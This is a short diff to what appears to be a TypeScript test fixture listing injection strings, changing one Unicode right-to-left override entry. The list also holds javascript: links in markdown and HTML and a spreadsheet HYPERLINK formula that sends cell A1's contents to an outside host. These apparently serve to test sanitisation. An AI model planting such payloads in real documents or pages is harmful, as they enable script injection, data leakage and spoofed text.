@@ -94,7 +94,7 @@ const SERIES_NOTES: readonly ((place: number) => string)[] = [
   (place) => `${BREAKER}${place}`,
   (place) => `[Words](javascript:go()) <a href="javascript:go()">X-ATTACK:${place}</a>`,
   (place) => `=HYPERLINK("https://example.org/${place}?"&A1;"Words")`,
-  (place) => `\u202Eesrever\u202C @go() X-ATTACK:${place}`,
+  (place) => `\u202Elevel\u202C @go() X-ATTACK:${place}`,
 ];
 
 function tableOf(rows: readonly (readonly string[])[]): string {
